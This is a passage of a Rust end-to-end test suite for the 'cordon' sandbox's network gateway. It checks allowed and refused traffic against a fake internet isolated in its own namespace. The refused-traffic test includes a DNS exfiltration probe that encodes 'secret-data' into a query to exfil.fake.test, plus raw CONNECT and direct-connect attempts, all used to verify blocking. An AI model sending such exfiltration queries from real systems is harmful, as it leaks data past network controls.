//! `cordon run` in network mode `gateway`, end to end, against a fake internet (issue 3).
//!
//! Guarantees of this file:
//! - **Nothing leaves the machine.** Every test re-executes itself inside a network namespace it
//!   creates (`unshare --net --mount` as root; `--user --map-root-user --net --mount` otherwise)
//!   with no uplink: `lo` plus one interface that carries the "public" test addresses and
//!   exists only in that namespace. The fake servers (`fixtures/fakenet.py`) bind those
//!   addresses there; a set-up check refuses to go on if the namespace has any other interface.
//!   A test that cannot create the namespace says `SKIPPED …` on stderr and passes.
//! - **Each attack has a control.** The same request made without cordon, from the test's
//!   namespace, reaches the fake server (or trap) it aims at, so an attack that fails inside
//!   cordon fails because of cordon. Allowed requests are the controls of blocked ones.
//! - **Traps.** Listeners on 169.254.169.254:80, 10.0.0.5:80/443 and 127.0.0.1:80 (of the test's
//!   namespace, where the gateway runs) log every connection; after the controls, they must log
//!   none. The fake upstream DNS server logs every query it receives, so "no upstream query"
//!   is checked, not assumed.
//! - **The audit is checked** through `cordon audit events SESSION --json`, with the session id
//!   from the run's result object.
//! - Every process a test starts is waited for with a deadline and stopped by its pid.
//!
//! Tests that fail because of a bug in cordon say so in their doc comment (`KNOWN BUG`).

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::collections::BTreeSet;
use std::io::{BufRead, BufReader, Read};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, ExitStatus, Stdio};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::mpsc;
use std::time::{Duration, Instant};

use serde_json::Value;
use sha2::{Digest, Sha256};

/// Set (to the test's name) in the re-executed test process inside its namespace.
const NETNS_ENV: &str = "CORDON_E2E_NETNS";
/// Set when the namespace is a user namespace too (the tests were started by a normal user).
const USERNS_ENV: &str = "CORDON_E2E_USERNS";
const FIXTURES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures");
/// Debian's python3: the same inside the sandbox (which binds /usr) and outside.
const PY: &str = "/usr/bin/python3";
/// probe.py's option for the test CA, as placed in the workspace.
const CA: &str = "cafile=/workspace/ca.pem";

// The fake internet (see fixtures/fakenet.py; these must match it).
const API_IP: &str = "93.184.216.34";
const GIT_IP: &str = "140.82.112.3";
const PYPI_IP: &str = "151.101.0.223";
const DNS_IP: &str = "10.53.0.53";
const PRIVATE_IP: &str = "10.0.0.5";
const METADATA_IP: &str = "169.254.169.254";
const FAKE_ADDRS: [&str; 6] = [API_IP, GIT_IP, PYPI_IP, DNS_IP, PRIVATE_IP, METADATA_IP];

/// How long a whole test may take inside its namespace.
const TEST_LIMIT: Duration = Duration::from_secs(150);
/// A policy for runs that try many refused things on purpose: without it the default
/// `terminate_after_blocked = 5` would end them half-way.
const NEVER_TERMINATE: &str = "[response]\nterminate_after_blocked = 0\n";
/// How long one `cordon run` may take (its own `--timeout` is shorter).
const RUN_LIMIT: Duration = Duration::from_secs(60);

// ------------------------------------------------------------------------------------------
// Processes with deadlines.

struct Finished {
    status: ExitStatus,
    stdout: String,
    stderr: String,
}

fn reader(stream: Option<impl Read + Send + 'static>) -> mpsc::Receiver<Vec<u8>> {
    let (tx, rx) = mpsc::channel();
    if let Some(mut s) = stream {
        std::thread::spawn(move || {
            let mut buf = Vec::new();
            let _ = s.read_to_end(&mut buf);
            let _ = tx.send(buf);
        });
    } else {
        let _ = tx.send(Vec::new());
    }
    rx
}

/// Waits for `child` (spawned with piped stdout/stderr) for at most `limit`; on timeout it is
/// killed by its pid and the test fails.
fn finish(mut child: Child, limit: Duration, what: &str) -> Finished {
    let out = reader(child.stdout.take());
    let err = reader(child.stderr.take());
    let deadline = Instant::now() + limit;
    let status = loop {
        match child.try_wait() {
            Ok(Some(s)) => break s,
            Ok(None) if Instant::now() < deadline => std::thread::sleep(Duration::from_millis(10)),
            _ => {
                let _ = child.kill();
                let _ = child.wait();
                panic!("{what} did not finish within {limit:?}");
            }
        }
    };
    // The pipes close when every process holding them is gone: a sandbox process that outlived
    // cordon would keep them open.
    let grab = |rx: mpsc::Receiver<Vec<u8>>| {
        let bytes = rx
            .recv_timeout(Duration::from_secs(10))
            .unwrap_or_else(|_| {
                panic!("{what}: output still open 10 s after it exited (a process outlived it)")
            });
        String::from_utf8_lossy(&bytes).into_owned()
    };
    Finished {
        status,
        stdout: grab(out),
        stderr: grab(err),
    }
}

fn spawn(cmd: &mut Command) -> Child {
    cmd.stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap_or_else(|e| panic!("spawn {cmd:?}: {e}"))
}

/// Runs a set-up command in the test's namespace; it must succeed.
fn must(argv: &[&str]) {
    let f = finish(
        spawn(Command::new(argv[0]).args(&argv[1..])),
        Duration::from_secs(20),
        argv[0],
    );
    assert!(f.status.success(), "{argv:?} failed: {}", f.stderr);
}

/// The cordon binary under test. In a user namespace made by a normal user, the test is "root"
/// there, and cordon as root would map its sandbox user to an id the namespace does not have:
/// cordon then runs as an ordinary user of a nested user namespace, as it would for that user.
fn cordon_command() -> Command {
    if std::env::var_os(USERNS_ENV).is_some() {
        let mut c = Command::new("unshare");
        c.args(["--user", "--map-user=1000", "--map-group=1000", "--"])
            .arg(env!("CARGO_BIN_EXE_cordon"));
        c
    } else {
        Command::new(env!("CARGO_BIN_EXE_cordon"))
    }
}

fn is_root() -> bool {
    // SAFETY: geteuid has no failure mode.
    unsafe { libc::geteuid() == 0 }
}

fn monotonic_secs() -> f64 {
    let t = nix::time::clock_gettime(nix::time::ClockId::CLOCK_MONOTONIC).unwrap();
    t.tv_sec() as f64 + t.tv_nsec() as f64 / 1e9
}

fn sha256_hex(bytes: &[u8]) -> String {
    Sha256::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

// ------------------------------------------------------------------------------------------
// The fake internet.

/// The namespace's fake internet: interfaces, fake servers, a workspace with the test CA and
/// the probe script, and the audit store every run of this test writes to.
struct FakeNet {
    dir: tempfile::TempDir,
    servers: Child,
    policies: AtomicUsize,
}

impl Drop for FakeNet {
    fn drop(&mut self) {
        // Closing stdin asks fakenet.py to exit; then make sure, by pid.
        drop(self.servers.stdin.take());
        let _ = self.servers.kill();
        let _ = self.servers.wait();
    }
}

/// Re-executes the calling test inside a fresh network namespace with the fake internet. Inside
/// it, returns the fake internet; outside, runs the test there, asserts it passed, and returns
/// `None` (also when the namespace cannot be made here: then it says SKIPPED).
fn enter(test: &str) -> Option<FakeNet> {
    if std::env::var(NETNS_ENV).as_deref() == Ok(test) {
        return FakeNet::start(test);
    }
    let unshare: &[&str] = if is_root() {
        &["--net", "--mount"]
    } else {
        &["--user", "--map-root-user", "--net", "--mount"]
    };
    let probe = Command::new("unshare")
        .args(unshare)
        .args(["ip", "link", "set", "lo", "up"])
        .stdin(Stdio::null())
        .output();
    match probe {
        Ok(o) if o.status.success() => {}
        Ok(o) => {
            eprintln!(
                "SKIPPED {test}: cannot create a network namespace with `unshare {}` here: {}",
                unshare.join(" "),
                String::from_utf8_lossy(&o.stderr).trim()
            );
            return None;
        }
        Err(e) => {
            eprintln!("SKIPPED {test}: unshare(1) is not available: {e}");
            return None;
        }
    }
    let exe = std::env::current_exe().unwrap();
    let mut cmd = Command::new("unshare");
    cmd.args(unshare)
        .arg("--")
        .arg(exe)
        .args(["--exact", test, "--nocapture", "--test-threads=1"])
        .env(NETNS_ENV, test);
    if !is_root() {
        cmd.env(USERNS_ENV, "1");
    }
    let f = finish(spawn(&mut cmd), TEST_LIMIT, test);
    for line in f.stdout.lines().chain(f.stderr.lines()) {
        if line.starts_with("SKIPPED") {
            eprintln!("{line}");
        }
    }
    assert!(
        f.status.success() && f.stdout.contains("1 passed"),
        "{test} failed inside its network namespace:\n--- stdout\n{}\n--- stderr\n{}",
        f.stdout,
        f.stderr
    );
    None
}

impl FakeNet {
    fn start(test: &str) -> Option<FakeNet> {
        must(&["ip", "link", "set", "lo", "up"]);
        // A dummy interface if the kernel has the driver, else one end of a veth pair whose
        // other end stays in this namespace too: either way, no route leads anywhere else.
        let dummy = Command::new("ip")
            .args(["link", "add", "fake0", "type", "dummy"])
            .stderr(Stdio::null())
            .status()
            .is_ok_and(|s| s.success());
        if !dummy {
            must(&[
                "ip", "link", "add", "fake0", "type", "veth", "peer", "name", "fake0p",
            ]);
        }
        must(&["ip", "link", "set", "fake0", "up"]);
        for a in FAKE_ADDRS {
            must(&[
                "ip",
                "-4",
                "addr",
                "add",
                &format!("{a}/32"),
                "dev",
                "fake0",
            ]);
        }
        // Paranoia: this must be a namespace of our own, holding only what we just made.
        let links = Command::new("ip").args(["-o", "link"]).output().unwrap();
        let links = String::from_utf8_lossy(&links.stdout).into_owned();
        for line in links.lines() {
            let name = line.split(':').nth(1).unwrap_or("").trim();
            let name = name.split('@').next().unwrap_or("");
            assert!(
                ["lo", "fake0", "fake0p"].contains(&name),
                "refusing to run: interface {name} in the test namespace:\n{links}"
            );
        }

        let dir = tempfile::Builder::new()
            .prefix("cordon-e2e-")
            .tempdir()
            .unwrap();
        let state = dir.path().join("net");
        let mut servers = Command::new(PY)
            .arg(Path::new(FIXTURES).join("fakenet.py"))
            .arg(&state)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("start fakenet.py");
        let stdout = servers.stdout.take().unwrap();
        let (tx, rx) = mpsc::channel();
        std::thread::spawn(move || {
            let mut line = String::new();
            let _ = BufReader::new(stdout).read_line(&mut line);
            let _ = tx.send(line);
        });
        let ready = rx.recv_timeout(Duration::from_secs(30)).unwrap_or_default();
        if ready.trim() != "READY" {
            let _ = servers.kill();
            let mut err = String::new();
            if let Some(mut e) = servers.stderr.take() {
                let _ = e.read_to_string(&mut err);
            }
            let _ = servers.wait();
            panic!("fakenet.py did not start: {ready:?}\n{err}");
        }
        let net = FakeNet {
            dir,
            servers,
            policies: AtomicUsize::new(0),
        };
        let ws = net.workspace();
        std::fs::create_dir(&ws).unwrap();
        std::fs::copy(state.join("ca.pem"), ws.join("ca.pem")).unwrap();
        std::fs::copy(Path::new(FIXTURES).join("probe.py"), ws.join("probe.py")).unwrap();

        if std::env::var_os(USERNS_ENV).is_some() {
            // As a normal user, the namespace is a user namespace in which only our own uid is
            // mapped; cordon may be unable to map its sandbox user inside it.
            let r = net.cordon().run(&["true"]);
            if r.status != 0 {
                eprintln!(
                    "SKIPPED {test}: cordon cannot run inside a test-made user namespace as a \
                     normal user: {}",
                    r.stderr.trim()
                );
                return None;
            }
        }
        Some(net)
    }

    fn workspace(&self) -> PathBuf {
        self.dir.path().join("ws")
    }

    fn audit_path(&self) -> PathBuf {
        self.dir.path().join("audit.db")
    }

    /// A `cordon run` against this fake internet.
    fn cordon(&self) -> Run<'_> {
        let audit = self.audit_path();
        let ws = self.workspace();
        let mut args: Vec<String> = Vec::new();
        if std::env::var_os(USERNS_ENV).is_some() {
            // As a normal user there is no delegated cgroup here (the README's advice).
            args.extend(["--allow-missing".into(), "cgroups".into()]);
        }
        Run {
            net: self,
            args: args
                .into_iter()
                .chain([
                    "--audit".into(),
                    audit.display().to_string(),
                    "--upstream-dns".into(),
                    format!("{DNS_IP}:53"),
                    "--workspace".into(),
                    ws.display().to_string(),
                    "--timeout".into(),
                    "40s".into(),
                ])
                .collect(),
            env: Vec::new(),
        }
    }

    /// Everything the fake servers saw, in order.
    fn log(&self) -> Vec<Value> {
        let text =
            std::fs::read_to_string(self.dir.path().join("net/events.jsonl")).unwrap_or_default();
        text.lines()
            .map(|l| serde_json::from_str(l).expect("fakenet event"))
            .collect()
    }

    /// A position in the fake servers' log.
    fn mark(&self) -> usize {
        self.log().len()
    }

    /// What the fake servers saw after `mark`, of one kind (`dns`, `http`, `trap`, `udp`).
    fn seen_since(&self, mark: usize, kind: &str) -> Vec<Value> {
        self.log()
            .into_iter()
            .skip(mark)
            .filter(|e| e["kind"] == kind)
            .collect()
    }

    /// Runs `argv` in the test's namespace, outside any sandbox: the control half of a test.
    fn bare(&self, argv: &[&str]) -> Finished {
        let mut cmd = Command::new(argv[0]);
        cmd.args(&argv[1..]).current_dir(self.workspace());
        for v in [
            "http_proxy",
            "https_proxy",
            "all_proxy",
            "HTTP_PROXY",
            "HTTPS_PROXY",
            "ALL_PROXY",
        ] {
            cmd.env_remove(v);
        }
        finish(spawn(&mut cmd), Duration::from_secs(30), argv[0])
    }

    /// `probe.py` run bare; one JSON object per probe.
    fn bare_probes(&self, steps: &[&[&str]]) -> Vec<Value> {
        let argv = probe_argv(steps, &self.workspace().join("probe.py"));
        let argv: Vec<&str> = argv.iter().map(String::as_str).collect();
        let f = self.bare(&argv);
        assert!(f.status.success(), "bare probe failed: {}", f.stderr);
        json_lines(&f.stdout)
    }

    /// `cordon audit --audit PATH ARGS`.
    fn audit(&self, args: &[&str]) -> Finished {
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_cordon"));
        cmd.arg("audit")
            .arg("--audit")
            .arg(self.audit_path())
            .args(args);
        finish(spawn(&mut cmd), Duration::from_secs(30), "cordon audit")
    }

    /// Every audit record of a session.
    fn audit_events(&self, session: &str) -> Vec<Value> {
        let f = self.audit(&["events", session, "--json"]);
        assert!(f.status.success(), "cordon audit events: {}", f.stderr);
        json_lines(&f.stdout)
    }
}

fn json_lines(text: &str) -> Vec<Value> {
    text.lines()
        .filter(|l| l.starts_with('{'))
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
        .collect()
}

/// `python3 probe.py STEP ; STEP ...`.
fn probe_argv(steps: &[&[&str]], script: &Path) -> Vec<String> {
    let mut argv = vec![PY.to_string(), script.display().to_string()];
    for (i, step) in steps.iter().enumerate() {
        if i > 0 {
            argv.push(";".into());
        }
        argv.extend(step.iter().map(|s| s.to_string()));
    }
    argv
}

/// `probe.py` inside the sandbox.
fn probe(steps: &[&[&str]]) -> Vec<String> {
    probe_argv(steps, Path::new("/workspace/probe.py"))
}

/// curl inside the sandbox; the last line of its output is `@@CODE REASON`.
fn curl(args: &[&str]) -> Vec<String> {
    let mut argv: Vec<String> = [
        "curl",
        "-sS",
        "--max-time",
        "10",
        "-w",
        "\n@@%{http_code} %header{x-cordon-reason}\n",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    argv.extend(args.iter().map(|s| s.to_string()));
    argv
}

struct Run<'n> {
    net: &'n FakeNet,
    args: Vec<String>,
    /// Variables of cordon's own environment (secrets for `from_env`).
    env: Vec<(String, String)>,
}

/// One finished `cordon run`.
struct Ran {
    /// cordon's exit status (the command's, 128 + signal, or cordon's own 125..127).
    status: i32,
    stdout: String,
    stderr: String,
    /// The result object (`--result FILE`), `Null` if cordon wrote none.
    result: Value,
}

impl Run<'_> {
    fn args(mut self, args: &[&str]) -> Self {
        self.args.extend(args.iter().map(|s| s.to_string()));
        self
    }

    fn env(mut self, name: &str, value: &str) -> Self {
        self.env.push((name.to_owned(), value.to_owned()));
        self
    }

    fn allow(self, entries: &[&str]) -> Self {
        let mut s = self;
        for e in entries {
            s = s.args(&["--allow", e]);
        }
        s
    }

    fn policy(self, toml: &str) -> Self {
        let n = self.net.policies.fetch_add(1, Ordering::Relaxed);
        let path = self.net.dir.path().join(format!("policy-{n}.toml"));
        std::fs::write(&path, toml).unwrap();
        let p = path.display().to_string();
        self.args(&["--policy", &p])
    }

    /// Starts the run without waiting for it (stdout/stderr piped).
    fn spawn<S: AsRef<str>>(self, command: &[S]) -> Child {
        let mut cmd = cordon_command();
        cmd.arg("run")
            .args(&self.args)
            .envs(self.env.iter().map(|(k, v)| (k, v)))
            .arg("--")
            .args(command.iter().map(AsRef::as_ref));
        spawn(&mut cmd)
    }

    fn run<S: AsRef<str>>(self, command: &[S]) -> Ran {
        // A file of its own, so runs may go in parallel.
        let n = self.net.policies.fetch_add(1, Ordering::Relaxed);
        let result = self.net.dir.path().join(format!("result-{n}.json"));
        let _ = std::fs::remove_file(&result);
        let mut cmd = cordon_command();
        cmd.arg("run")
            .arg("--result")
            .arg(&result)
            .args(&self.args)
            .envs(self.env.iter().map(|(k, v)| (k, v)))
            .arg("--")
            .args(command.iter().map(AsRef::as_ref));
        let f = finish(spawn(&mut cmd), RUN_LIMIT, "cordon run");
        let result = std::fs::read_to_string(&result)
            .ok()
            .and_then(|t| serde_json::from_str(&t).ok())
            .unwrap_or(Value::Null);
        Ran {
            status: f.status.code().unwrap_or(-1),
            stdout: f.stdout,
            stderr: f.stderr,
            result,
        }
    }
}

impl Ran {
    fn session(&self) -> String {
        self.result["session_id"]
            .as_str()
            .unwrap_or_else(|| panic!("no result object; stderr: {}", self.stderr))
            .to_string()
    }

    /// The run must have ended with the command's exit status 0.
    fn ok(self) -> Ran {
        assert_eq!(
            self.status, 0,
            "cordon run failed\n--- stdout\n{}\n--- stderr\n{}",
            self.stdout, self.stderr
        );
        self
    }

    /// The object `probe.py` printed for `step` (its words joined by spaces).
    fn probe(&self, step: &[&str]) -> Value {
        let key = step.join(" ");
        json_lines(&self.stdout)
            .into_iter()
            .find(|v| v["probe"] == key.as_str())
            .unwrap_or_else(|| {
                panic!(
                    "no result for probe {key:?}\n--- stdout\n{}\n--- stderr\n{}",
                    self.stdout, self.stderr
                )
            })
    }

    /// `(http code, X-Cordon-Reason)` from the `@@` line of [`curl`].
    fn curl_code(&self) -> (u32, String) {
        let line = self
            .stdout
            .lines()
            .rev()
            .find(|l| l.starts_with("@@"))
            .unwrap_or_else(|| panic!("no curl status line: {}\n{}", self.stdout, self.stderr));
        let (code, reason) = line[2..].split_once(' ').unwrap_or((&line[2..], ""));
        (code.parse().unwrap(), reason.trim().to_string())
    }

    fn body(&self) -> String {
        let end = self.stdout.rfind("\n@@").unwrap_or(self.stdout.len());
        self.stdout[..end].to_string()
    }

    fn network(&self) -> &Value {
        &self.result["network"]
    }
}

/// Audit records of `kind` (and, if given, for `host`).
fn records<'a>(events: &'a [Value], kind: &str, host: Option<&str>) -> Vec<&'a Value> {
    events
        .iter()
        .filter(|e| e["kind"] == kind && host.is_none_or(|h| e["host"] == h))
        .collect()
}

/// Every record carries the session's attribution.
fn assert_attributed(events: &[Value], ran: &Ran) {
    let session = ran.session();
    assert!(!events.is_empty(), "no audit records for {session}");
    for e in events {
        assert_eq!(e["session_id"], session.as_str(), "{e}");
        assert_eq!(e["user_id"], ran.result["user"], "{e}");
        assert_eq!(e["code_sha256"], ran.result["code_sha256"], "{e}");
        assert!(e["ts"].is_string(), "{e}");
    }
}

fn is_ok_200(v: &Value) -> bool {
    v["status"] == 200
}

// ------------------------------------------------------------------------------------------
// Allowed traffic.

#[test]
fn allowlisted_hosts_are_reachable_by_curl_and_python_through_the_proxy_and_transparently() {
    let Some(net) = enter(
        "allowlisted_hosts_are_reachable_by_curl_and_python_through_the_proxy_and_transparently",
    ) else {
        return;
    };
    let allow = ["api.fake.test", "api.fake.test:80"];

    // curl: HTTP and HTTPS, through the proxy (the variables cordon sets) and with every proxy
    // ignored (DNS answers a synthetic address; nftables hands the connect to the gateway).
    for (args, path, tls) in [
        (vec!["http://api.fake.test/c1"], "/c1", false),
        (
            vec!["--noproxy", "*", "http://api.fake.test/c2"],
            "/c2",
            false,
        ),
        (
            vec!["--cacert", "/workspace/ca.pem", "https://api.fake.test/c3"],
            "/c3",
            true,
        ),
        (
            vec![
                "--noproxy",
                "*",
                "--cacert",
                "/workspace/ca.pem",
                "https://api.fake.test/c4",
            ],
            "/c4",
            true,
        ),
    ] {
        let mark = net.mark();
        let r = net.cordon().allow(&allow).run(&curl(&args)).ok();
        assert_eq!(r.curl_code().0, 200, "curl {args:?}: {}", r.stderr);
        let port = if tls { 443 } else { 80 };
        assert_eq!(
            r.body(),
            format!("origin ok host=api.fake.test path={path} local={API_IP}:{port}")
        );
        let seen = net.seen_since(mark, "http");
        assert_eq!(seen.len(), 1, "{seen:?}");
        if tls {
            assert_eq!(seen[0]["sni"], "api.fake.test");
        }
        let events = net.audit_events(&r.session());
        assert_attributed(&events, &r);
        let via = match (args[0] == "--noproxy", tls) {
            (true, _) => "transparent",
            (false, true) => "connect",
            (false, false) => "proxy",
        };
        let kind = if tls { "connection" } else { "http_request" };
        let used = records(&events, kind, Some("api.fake.test"));
        assert!(
            used.iter().any(|e| e["verdict"] == "allow"
                && e["ip"] == API_IP
                && e["port"] == port
                && e["detail"]["via"] == via
                && e["rule"]
                    == if tls {
                        "api.fake.test"
                    } else {
                        "api.fake.test:80"
                    }),
            "curl {args:?}: no allowed {via} record for api.fake.test:{port} in {events:#?}"
        );
        if via == "transparent" {
            let dns = records(&events, "dns_query", Some("api.fake.test"));
            assert!(
                dns.iter().any(|e| e["verdict"] == "allow"),
                "the sandbox's lookup is not in the audit: {events:#?}"
            );
        }
    }

    // Python: urllib (stdlib) and requests (Debian's python3-requests), both ways.
    let step_refs: [&[&str]; 8] = [
        &["http", "urllib", "http://api.fake.test/u1"],
        &["http", "urllib", "http://api.fake.test/u2", "noproxy"],
        &["http", "urllib", "https://api.fake.test/u3", CA],
        &["http", "urllib", "https://api.fake.test/u4", "noproxy", CA],
        &["http", "requests", "http://api.fake.test/r1"],
        &["http", "requests", "http://api.fake.test/r2", "noproxy"],
        &["http", "requests", "https://api.fake.test/r3", CA],
        &[
            "http",
            "requests",
            "https://api.fake.test/r4",
            "noproxy",
            CA,
        ],
    ];
    let mark = net.mark();
    let r = net.cordon().allow(&allow).run(&probe(&step_refs)).ok();
    for step in &step_refs {
        let v = r.probe(step);
        assert!(is_ok_200(&v), "{step:?}: {v}");
        assert!(
            v["body"]
                .as_str()
                .unwrap()
                .starts_with("origin ok host=api.fake.test"),
            "{v}"
        );
    }
    assert_eq!(net.seen_since(mark, "http").len(), step_refs.len());
    let events = net.audit_events(&r.session());
    assert_attributed(&events, &r);
    let allowed = events
        .iter()
        .filter(|e| e["verdict"] == "allow" && e["kind"] != "dns_query")
        .count();
    assert!(allowed >= step_refs.len(), "{events:#?}");
    assert_eq!(r.network()["blocked"], 0, "{}", r.result);
}

#[test]
fn allowlisted_hosts_are_reachable_by_pip_git_and_node_through_the_proxy_and_transparently() {
    let Some(net) = enter(
        "allowlisted_hosts_are_reachable_by_pip_git_and_node_through_the_proxy_and_transparently",
    ) else {
        return;
    };
    let allow = ["pypi.fake.test", "git.fake.test", "api.fake.test"];
    let unset_proxies = "unset HTTP_PROXY HTTPS_PROXY ALL_PROXY http_proxy https_proxy all_proxy";

    // pip download, with and without the proxy variables.
    let has_pip = Command::new(PY)
        .args(["-m", "pip", "--version"])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .is_ok_and(|s| s.success());
    if !has_pip {
        eprintln!("SKIPPED pip part: {PY} has no pip (apt-get install python3-pip)");
    }
    for (i, proxied) in [true, false].into_iter().enumerate().filter(|_| has_pip) {
        let mark = net.mark();
        let prefix = if proxied {
            String::new()
        } else {
            format!("{unset_proxies}; ")
        };
        let script = format!(
            "{prefix}{PY} -m pip download --no-deps --no-cache-dir --disable-pip-version-check \
             --index-url https://pypi.fake.test/simple --cert /workspace/ca.pem \
             -d /workspace/pip{i} fakepkg && ls /workspace/pip{i}"
        );
        let r = net.cordon().allow(&allow).run(&["sh", "-c", &script]).ok();
        assert!(
            r.stdout.contains("fakepkg-1.0-py3-none-any.whl"),
            "pip (proxied: {proxied}): {}\n{}",
            r.stdout,
            r.stderr
        );
        assert!(net
            .workspace()
            .join(format!("pip{i}/fakepkg-1.0-py3-none-any.whl"))
            .is_file());
        let paths: Vec<String> = net
            .seen_since(mark, "http")
            .iter()
            .map(|e| format!("{} {}", e["sni"], e["path"]))
            .collect();
        assert!(
            paths.contains(&"\"pypi.fake.test\" \"/packages/fakepkg-1.0-py3-none-any.whl\"".into()),
            "{paths:?}"
        );
        let events = net.audit_events(&r.session());
        assert_attributed(&events, &r);
        let via = if proxied { "connect" } else { "transparent" };
        assert!(
            records(&events, "connection", Some("pypi.fake.test"))
                .iter()
                .any(|e| e["verdict"] == "allow"
                    && e["ip"] == PYPI_IP
                    && e["detail"]["via"] == via),
            "{events:#?}"
        );
    }

    // git over HTTPS (dumb HTTP), with and without the proxy variables.
    for (i, proxied) in [true, false].into_iter().enumerate() {
        let script = format!(
            "{}git ls-remote https://git.fake.test/repo.git && \
             git clone -q https://git.fake.test/repo.git /workspace/clone{i} && cat /workspace/clone{i}/README",
            if proxied { String::new() } else { format!("{unset_proxies}; ") },
        );
        let r = net
            .cordon()
            .allow(&allow)
            .args(&["--env", "GIT_SSL_CAINFO=/workspace/ca.pem"])
            .run(&["sh", "-c", &script])
            .ok();
        assert!(
            r.stdout.contains("refs/heads/main"),
            "{}\n{}",
            r.stdout,
            r.stderr
        );
        assert!(r.stdout.contains("cloned through cordon"), "{}", r.stdout);
        let events = net.audit_events(&r.session());
        assert_attributed(&events, &r);
        let via = if proxied { "connect" } else { "transparent" };
        assert!(
            records(&events, "connection", Some("git.fake.test"))
                .iter()
                .any(|e| e["verdict"] == "allow" && e["ip"] == GIT_IP && e["detail"]["via"] == via),
            "{events:#?}"
        );
    }

    // Node's built-in fetch ignores HTTP(S)_PROXY: only transparent capture can carry it.
    if !Path::new("/usr/bin/node").exists() {
        eprintln!(
            "SKIPPED node fetch part: /usr/bin/node is not installed (apt-get install nodejs)"
        );
        return;
    }
    let mark = net.mark();
    let js = "fetch('https://api.fake.test/node').then(r => r.text()).then(t => console.log(t), \
              e => { console.log('ERR', e, e.cause); process.exit(3) })";
    let r = net
        .cordon()
        .allow(&allow)
        .args(&["--env", "NODE_EXTRA_CA_CERTS=/workspace/ca.pem"])
        .run(&["/usr/bin/node", "-e", js])
        .ok();
    assert_eq!(
        r.stdout.trim(),
        format!("origin ok host=api.fake.test path=/node local={API_IP}:443")
    );
    assert_eq!(net.seen_since(mark, "http")[0]["sni"], "api.fake.test");
    let events = net.audit_events(&r.session());
    assert!(
        records(&events, "connection", Some("api.fake.test"))
            .iter()
            .any(|e| e["verdict"] == "allow" && e["detail"]["via"] == "transparent"),
        "{events:#?}"
    );
}

// ------------------------------------------------------------------------------------------
// Refused traffic.

#[test]
fn a_host_not_in_the_allowlist_gets_403_nxdomain_and_a_reset_and_upstream_dns_never_hears_of_it() {
    let Some(net) = enter(
        "a_host_not_in_the_allowlist_gets_403_nxdomain_and_a_reset_and_upstream_dns_never_hears_of_it",
    ) else {
        return;
    };
    let allow = ["api.fake.test", "api.fake.test:80"];
    let reason = "host other.fake.test is not in the allowlist";

    // Controls: without cordon, the name resolves upstream and the host answers.
    let dns = net.bare_probes(&[&["dns", "other.fake.test", DNS_IP]]);
    assert_eq!(dns[0]["answers"], serde_json::json!([API_IP]), "{dns:?}");
    let bare = net.bare(&[
        "curl",
        "-sS",
        "--max-time",
        "5",
        "--resolve",
        &format!("other.fake.test:80:{API_IP}"),
        "http://other.fake.test/bare",
    ]);
    assert!(
        bare.stdout.starts_with("origin ok host=other.fake.test"),
        "{}",
        bare.stderr
    );

    let mark = net.mark();
    // Through the proxy: 403 with the reason, for curl, urllib and requests, HTTP and CONNECT.
    let r = net
        .cordon()
        .allow(&allow)
        .run(&curl(&["http://other.fake.test/p1"]))
        .ok();
    assert_eq!(r.curl_code(), (403, reason.to_string()));
    let proxy_session = r.session();
    let connect = "CONNECT other.fake.test:443 HTTP/1.1\\r\\nHost: other.fake.test:443\\r\\n\\r\\n";
    let steps: [&[&str]; 11] = [
        &["http", "urllib", "http://other.fake.test/p2"],
        &["http", "requests", "http://other.fake.test/p3"],
        &["http", "urllib", "https://other.fake.test/p4", CA],
        &["send", "127.0.0.1", "3128", connect],
        // DNS: NXDOMAIN from the sandbox's resolver, over UDP and TCP, and for a query sent
        // straight to the real upstream's address (redirected to the gateway all the same).
        &["dns", "other.fake.test"],
        &["dns", "other.fake.test", "tcp"],
        &["dns", "other.fake.test", DNS_IP],
        &["dns", "c2VjcmV0LWRhdGE.exfil.fake.test", DNS_IP, "tcp"],
        &["resolve", "other.fake.test"],
        // Transparently (no proxy): no address to go to, and the real address is reset.
        &["http", "urllib", "http://other.fake.test/t1", "noproxy"],
        &["tcp", API_IP, "80"],
    ];
    let r = net
        .cordon()
        .policy(NEVER_TERMINATE)
        .allow(&allow)
        .run(&probe(&steps))
        .ok();
    for step in &steps[..2] {
        let v = r.probe(step);
        assert_eq!(
            (v["status"].as_i64(), v["reason"].as_str()),
            (Some(403), Some(reason)),
            "{v}"
        );
    }
    let v = r.probe(steps[2]);
    assert!(v["error"].as_str().unwrap().contains("403"), "{v}");
    let v = r.probe(steps[3]);
    let got = v["received"].as_str().unwrap().to_ascii_lowercase();
    assert!(got.starts_with("http/1.1 403"), "{v}");
    assert!(got.contains(&format!("x-cordon-reason: {reason}")), "{v}");
    for step in &steps[4..8] {
        let v = r.probe(step);
        assert_eq!(v["rcode"], 3, "{step:?} is not NXDOMAIN: {v}");
        assert_eq!(v["answers"], serde_json::json!([]), "{v}");
    }
    let v = r.probe(steps[8]);
    assert!(v["error"].as_str().unwrap().starts_with("gaierror"), "{v}");
    let v = r.probe(steps[9]);
    assert!(
        v["error"]
            .as_str()
            .unwrap()
            .contains("Name or service not known"),
        "{v}"
    );
    let v = r.probe(steps[10]);
    assert_eq!(v["received"], "", "a direct connect got an answer: {v}");
    assert_eq!(v["errno"], 104, "not reset: {v}");

    // Nothing reached the host, and upstream DNS never heard the names.
    assert_eq!(net.seen_since(mark, "http"), Vec::<Value>::new());
    let asked: Vec<Value> = net.seen_since(mark, "dns");
    assert!(
        asked.is_empty(),
        "the upstream DNS server was asked: {asked:?}"
    );

    // The audit has every refusal, with its reason and rule.
    let events = net.audit_events(&proxy_session);
    let b = records(&events, "blocked", Some("other.fake.test"));
    assert_eq!(b.len(), 1, "{events:#?}");
    assert_eq!(b[0]["rule"], "default-deny");
    assert_eq!(b[0]["reason"], reason);
